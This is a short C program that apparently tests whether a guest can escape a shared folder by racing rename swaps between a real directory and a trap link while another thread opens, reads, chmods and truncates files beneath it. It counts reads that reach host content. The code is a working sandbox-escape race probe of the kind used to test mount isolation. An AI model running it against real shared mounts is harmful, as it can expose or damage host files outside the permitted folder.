// Can a guest leave the folder it was shown by swapping a directory for a link while it opens files under it?
// mount-races swap: swaps until there is a file `stop`. mount-races open: opens. mount-races both: two threads.
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { TRIES = 1500 };
static atomic_int swaps, stop;

static void *swap(void *alone) {
  while (alone ? access("stop", F_OK) != 0 : !stop) {
    rename("real", "name"), rename("name", "real");
    rename("trap", "name"), rename("name", "trap");
    if (swaps++ == 100) close(open("swapping", O_CREAT | O_WRONLY, 0644));
  }
  return 0;
}

static int reads_outside(const char *path) {
  char text[64];
  int fd = open(path, O_RDONLY);
  ssize_t length = fd < 0 ? 0 : read(fd, text, sizeof text);
  if (fd >= 0) close(fd);
  return length > 0 && !memcmp(text, "HOST", 4);
}

static void change(void) {
  int made = open("name/made", O_CREAT | O_WRONLY, 0644);
  if (made >= 0) close(made);
  mkdir("name/folder", 0755), rmdir("name/folder");
  rename("name/made", "name/renamed"), unlink("name/renamed");
  link("file", "name/linked"), unlink("name/linked");
  chmod("name/secret", 0600), truncate("name/secret", 5);
}

static void attack(void) {
  int escaped = 0;
  for (int tries = 0; tries < TRIES; tries++) {
    escaped += reads_outside(tries & 1 ? "name/secret" : "name/../name/secret");
    change();
  }
  close(open("stop", O_CREAT | O_WRONLY, 0644));
  printf("tried %d, escaped %d\n", TRIES, escaped);
}

int main(int count, char **words) {
  const char *role = count > 1 ? words[1] : "both";
  mkdir("real", 0755);
  close(open("real/secret", O_CREAT | O_WRONLY, 0644));
  if (!strcmp(role, "swap")) return swap("alone") != 0;
  pthread_t thread;
  if (!strcmp(role, "both")) pthread_create(&thread, 0, swap, 0);
  while (access("swapping", F_OK) != 0) usleep(1000);
  attack();
  stop = 1;
  if (!strcmp(role, "both")) pthread_join(thread, 0);
  return 0;
}
